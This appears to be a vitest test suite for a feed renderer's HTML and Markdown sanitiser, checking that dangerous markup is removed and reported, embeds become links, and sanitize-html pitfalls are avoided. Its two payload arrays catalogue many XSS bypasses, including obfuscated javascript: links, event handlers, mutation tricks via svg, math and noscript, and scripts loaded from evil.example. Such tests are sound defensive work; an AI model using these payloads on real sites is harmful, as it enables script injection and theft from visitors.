import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { codes, html, rendered } from './rendering.ts';

type Node = DefaultTreeAdapterTypes.ChildNode;

const HARMLESS = new Set(
  'a abbr address article aside audio b bdi blockquote br caption cite code col colgroup data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main mark menu nav ol p picture pre q rp rt ruby s samp section small source span strong sub summary sup table tbody td tfoot th thead time tr track u ul var video wbr'.split(
    ' ',
  ),
);
const ADDRESSES = /^(?:href|src|srcset|cite|poster|data|action|formaction|background|longdesc|xlink:href)$/;

/** What a browser would find in it that must not be in a feed; read by the parser of the HTML standard. */
function dangers(content: string): string[] {
  const found: string[] = [];
  const visit = (nodes: readonly Node[]) => {
    for (const node of nodes) {
      if (node.nodeName === '#comment') found.push('comment');
      if (!('tagName' in node)) continue;
      if (!HARMLESS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (/^on|^style$|^srcdoc$|^formaction$/.test(name)) found.push(name);
        if (ADDRESSES.test(name) && !/^(?:https?:\/\/|mailto:|tel:|data:image\/(?:png|gif|jpeg|webp);)/.test(value)) {
          found.push(`${name}=${value}`);
        }
      }
      visit(node.childNodes);
    }
  };
  visit(parseFragment(content).childNodes);
  return found;
}

const MARKDOWN_PAYLOADS = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:x)',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '![a](javascript:alert(1))',
  '![a](data:text/html,<script>)',
  '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  '<javascript:alert(1)>',
  '<vbscript:x>',
  '[a]\n\n[a]: javascript:alert(1)',
  '![a]\n\n[a]: data:text/html,x',
  '[a](http://x.example "\\"onmouseover=alert(1) x=")',
  '![a" onerror="alert(1)](x.png)',
  '[a](http://x.example/"onclick="alert(1))',
  '`<script>alert(1)</script>`',
  '[[javascript:alert(1)]]',
  '![[x" onerror="alert(1).png]]',
  '==<script>alert(1)</script>==',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '> [!<img/onerror=alert(1)>] <script>alert(1)</script>',
  '| <script>a</script> |\n|---|\n| <img src=x onerror=y> |',
  '```x" onclick="y\na\n```',
  '$<script>alert(1)</script>$',
  '{{ <script>alert(1)</script> }}',
  '<img src={"x"} onError={alert(1)} />',
  '<a href={"javascript:alert(1)"}>b</a>',
];

const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<img src="x" style="background:url(javascript:alert(1))">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">a</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--a--!><img src=x onerror=alert(1)>-->',
  '<!-- --><img src=x onerror=alert(1)><!-- -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://x.example"><img src=x onerror=alert(1)></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">a</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><script>alert(1)</script></option></select>',
  '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<video poster="javascript:alert(1)"><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<audio src="data:text/html,x" onloadstart=alert(1)></audio>',
  '<a href="jav&#x0A;ascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java\u0000script:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="//evil.example" target=_blank onclick=alert(1)>a</a>',
  '<q cite="javascript:alert(1)">a</q>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">a</table>',
  '<body onload=alert(1)><p>a</body>',
  '<div style="width:expression(alert(1))">a</div>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<map><area href="javascript:alert(1)"></map><img usemap="#x">',
  '<p title="--><img src=x onerror=alert(1)>">a</p>',
  '<img alt="<script>alert(1)</script>" src="x.png">',
  '<a title="`><img src=x onerror=alert(1)>" href="/a">b</a>',
  '<span title="a" data-embed-address="javascript:alert(1)" data-embed-label="b">c</span>',
  '<span data-embed-address="javascript:alert(1)" data-embed-label="&lt;img src=x onerror=alert(1)&gt;">a</span>',
  '<span lang=en data-embed-address=\'x" onclick="alert(1)\' data-embed-label="a">a</span>',
];

describe('nothing active comes through', () => {
  it.each(MARKDOWN_PAYLOADS)('from Markdown: %j', (payload) => {
    expect(dangers(html(payload))).toEqual([]);
    expect(dangers(html(`${payload}\n\n<b>raw</b>`))).toEqual([]);
  });
  it.each(HTML_PAYLOADS)('from HTML: %j', (payload) => {
    for (const body of [payload, `a ${payload} b`, `- > ${payload}`, `<div>\n${payload}\n</div>`, `# ${payload}`]) {
      expect(dangers(html(body))).toEqual([]);
    }
  });
  it('from all of it at once', () => {
    expect(dangers(html([...MARKDOWN_PAYLOADS, ...HTML_PAYLOADS].join('\n\n')))).toEqual([]);
    expect(dangers(html([...HTML_PAYLOADS].reverse().join('')))).toEqual([]);
  });
});

describe('what is removed is told', () => {
  it.each([
    ['a\n\n<script>b</script>', '<script> and its content removed', 7],
    ['<b onclick=x>a</b>', 'onclick attribute removed', 5],
    ['<p style="color:red">a</p>', 'style attribute removed', 5],
    ['<form>a</form>', 'tags around the content of <form> removed', 5],
    ['<a href="javascript:x">a</a>', 'javascript: link removed', 5],
    ['<svg><path onclick=x></svg>', '<svg> and its content removed', 5],
  ])('%j', (body, message, line) => {
    expect(rendered(body).diagnostics).toEqual([
      { severity: 'note', code: 'content/removed', message, file: 'articles/a.md', place: { line, column: 1 } },
    ]);
  });
  it('with a warning where all that follows goes with it', () => {
    expect(codes(rendered('a\n\n<script>\nb'))).toContain('warning content/removed');
  });
  it('but not what only dressed the text', () => {
    expect(rendered('<font color=red><span class="a">b</span></font>').diagnostics).toEqual([]);
  });
});

describe('embeds become links', () => {
  it.each([
    [
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0" title="A film"></iframe>',
      'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
      'A film',
    ],
    [
      '<iframe src="//www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
      'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
      'youtube.com',
    ],
    ['<iframe src="https://player.vimeo.com/video/123?h=a"></iframe>', 'https://vimeo.com/123', 'vimeo.com'],
    ['<iframe src="https://maps.example/embed"/>', 'https://maps.example/embed', 'maps.example'],
    ['<embed src="film.swf">', 'https://site.example/articles/a/film.swf', 'film.swf'],
  ])('%s', (body, href, label) => {
    const content = rendered(`${body}\n\nAfter`);
    expect(content.html).toBe(`<p><a href="${href}">${label}</a></p>\n<p>After</p>`);
    expect(content.diagnostics.map(({ code }) => code)).toEqual(['content/embed-became-link']);
  });
  it('and keep what they hold for those who cannot show them', () => {
    expect(html('<object data="a.pdf"><p>Read it <a href="b.html">here</a></p></object>')).toMatch(
      />a\.pdf<\/a>.*Read it <a /s,
    );
  });
  it('in a line stay in it, and in a link are its words', () => {
    expect(html('a <iframe src="https://x.example/"></iframe> b')).toBe(
      '<p>a <a href="https://x.example/">x.example</a> b</p>',
    );
    expect(html('<a href="/c"><iframe src="https://x.example/"></iframe></a>')).not.toMatch(/<a [^>]*>[^<]*<a /);
  });
});

describe('what is kept', () => {
  it('players hold links to what they play', () => {
    expect(html('<video width="640" autoplay><source src="a.webm" type="video/webm"></video>')).toBe(
      '<p><video width="640" controls><source src="https://site.example/articles/a/a.webm" type="video/webm"><a href="https://site.example/articles/a/a.webm">a.webm</a></video></p>',
    );
  });
  it('pictures that load late have their address', () => {
    expect(html('<img data-src="a.png" src="data:image/gif;base64,R0lG" alt="b">')).toBe(
      '<img src="https://site.example/articles/a/a.png" alt="b">',
    );
  });
  it('what stands in for a script is shown', () => {
    expect(html('<noscript><img src="chart.png"></noscript>')).toContain('chart.png');
  });
  it('old elements have new names', () => {
    expect(html('<center><tt>a</tt> <strike>b</strike> <acronym title="c">d</acronym></center>')).toBe(
      '<div><code>a</code> <del>b</del> <abbr title="c">d</abbr></div>',
    );
  });
  it('formulas are said once', () => {
    expect(
      rendered(
        '<math><semantics><mrow><mi>E</mi></mrow><annotation encoding="application/x-tex">E</annotation></semantics></math>',
      ).text,
    ).toBe('E');
  });
});

describe('traps of sanitize-html', () => {
  it('a self-closing iframe or script does not take the rest of the article', () => {
    expect(rendered('<iframe src="https://x.example/" />\n\nAfter').text).toContain('After');
    expect(rendered('<div><script src="x" /></div>\n\nAfter').text).toContain('After');
  });
  it('the words of a dropped picture swallow no words after it', () => {
    expect(html('<i><img src="javascript:x" alt="a"> b</i> c')).toBe('<p><i><span>a</span> b</i> c</p>');
  });
  it('an element of which nothing is left does not give its name to the end of the next', () => {
    expect(html('<div><span class="k">x</span><cite>y</cite> z</div>')).toBe('<div>x<cite>y</cite> z</div>');
  });
  it('text is escaped once', () => {
    expect(html('<b>&amp;lt; &lt;i&gt; "q"</b>')).toBe('<p><b>&amp;lt; &lt;i&gt; "q"</b></p>');
  });
  it('elements open beyond all reason are shown as text, in little time', () => {
    const content = rendered(`${'<div>'.repeat(50_000)}a`);
    expect(content.text).toContain('<div>a');
    expect(codes(content)).toEqual(['warning content/removed']);
  });
  it('elements nested deeper than readers follow keep what is in them', () => {
    const content = rendered(`${'<div>'.repeat(500)}a ![b](https://x.example/c.png)${'</div>'.repeat(500)}`);
    expect(content.text).toContain('a');
    expect(codes(content)).toContain('warning content/removed');
    expect(content.html.match(/<div>/g)?.length).toBeLessThanOrEqual(200);
  });
});

describe('only what stands between raw HTML is sanitised', () => {
  it('so that what is opened in one block is closed in another', () => {
    expect(html('one\n\n<details>\n\ntwo\n\n</details>\n\nthree')).toBe(
      '<p>one</p>\n<details>\n<p>two</p>\n</details>\n<p>three</p>',
    );
  });

  it('and what is never closed says nothing of what comes after', () => {
    expect(html('<details>\n\none\n\n<b>two</b>\n\nthree')).toMatch(/<b>two<\/b><\/p>\s*<\/details>\s*<p>three<\/p>$/);
  });

  it('with whole footnotes, whose parts may each hold some', () => {
    const notes = html('a[^1] b[^2]\n\n[^1]: <b>one</b>\n\n[^2]: <i>two</i>');
    expect(notes.match(/<li\b/g)).toHaveLength(2);
    expect(notes.match(/<\/li>/g)).toHaveLength(2);
    expect(notes).toMatch(/<b>one<\/b>.*<i>two<\/i>/s);
  });
});
